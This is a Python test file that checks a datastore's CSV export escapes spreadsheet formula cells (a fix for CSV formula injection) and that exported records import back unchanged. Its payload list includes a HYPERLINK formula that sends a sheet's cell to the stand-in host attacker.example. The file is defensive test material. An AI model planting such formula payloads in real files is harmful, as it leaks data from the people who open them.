"""CSV export formula injection (issue [13] finding 9). The attacker writes record text (a member,
a project's API key, or a visitor through a service that stores what it is sent); an admin exports
the model as CSV and opens it in a spreadsheet, which would run any cell beginning with `=`, `+`,
`-`, `@`, tab, CR or LF as a formula (`=HYPERLINK(...)` sends the sheet's cells away). Every such
cell must leave escaped as OWASP advises (a leading single quote, the cell quoted), numbers stay
numbers, the JSON export stays exact, and the CSV imports back to the same values."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import new_project
from test_datastore import Store, field

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "\n=1+2",
    "'=already quoted",  # a text that begins with a quote gets one more: the import takes one away
    "plain, \"quoted\"; text",
    "-",
]


@pytest.fixture
def store(client, owner):
    return Store(client, new_project(client, owner["headers"], "csv"), owner["headers"])


@pytest.fixture(scope="module")
def owner(users):
    return users.make(createProjects=True)


FIELDS = [field("title", "text"), field("body", "text"), field("score", "number"), field("ratio", "float"), field("meta", "json")]


def test_formula_cells_leave_escaped_and_come_back_exact(store):
    assert store.model("leads", FIELDS).status_code == 201
    for payload in PAYLOADS:
        store.made("leads", {"title": payload, "body": payload, "score": -5, "ratio": -0.25, "meta": {"note": payload}})
    exported = store.client.get(f"{store.base}/leads/records/export", params={"format": "csv"}, headers=store.headers)
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == len(PAYLOADS)
    for payload, row in zip(PAYLOADS, rows):
        expected = payload if not payload.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "'")) else "'" + payload
        assert row["title"] == expected and row["body"] == expected, (payload, row)
        assert row["score"] == "-5" and row["ratio"] == "-0.25"  # numbers are numbers, not text
        assert row["meta"].startswith("{")  # JSON in its cell begins with a brace: no formula
    # What a spreadsheet sees: no cell of the file begins with a formula character.
    for line in csv.reader(io.StringIO(exported.text, newline="")):
        for value in line:
            assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), line
            assert not value.startswith("-") or value in ("-5", "-0.25"), line
    # Every cell is quoted, so a `;` or `,` in a text (a spreadsheet's other separator) starts no cell.
    assert exported.text.startswith('"id","created","updated","title","body","score","ratio","meta"')

    # The JSON export is the exact one.
    exact = store.client.get(f"{store.base}/leads/records/export", params={"format": "json"}, headers=store.headers).json()
    assert [record["title"] for record in exact] == PAYLOADS and [record["body"] for record in exact] == PAYLOADS

    # The CSV comes back in with the escape taken away: the same values as written.
    assert store.model("again", FIELDS).status_code == 201
    imported = store.client.post(f"{store.base}/again/records/import", params={"format": "csv"},
                                 content=exported.text.encode(), headers=store.headers)
    assert imported.status_code == 201, imported.text
    back = store.items("again", sort="created", perPage=50)
    assert [(r["title"], r["body"], r["score"], r["ratio"], r["meta"]) for r in back] == [
        (payload, payload, -5, -0.25, {"note": payload}) for payload in PAYLOADS]


def test_a_hand_written_quote_before_a_formula_is_read_as_the_escape(store):
    """The import's rule, for CSV made elsewhere: one leading quote before a formula character or a
    quote is the escape; before anything else it is part of the text."""
    assert store.model("notes", [field("title", "string"), field("score", "number")]).status_code == 201
    text = "title,score\n'=1+2,'-7\n'plain,3\n''x,4\n"
    imported = store.client.post(f"{store.base}/notes/records/import", params={"format": "csv"}, content=text.encode(),
                                 headers=store.headers)
    assert imported.status_code == 201, imported.text
    back = [(r["title"], r["score"]) for r in store.items("notes", sort="created", perPage=10)]
    assert back == [("=1+2", -7), ("'plain", 3), ("'x", 4)]
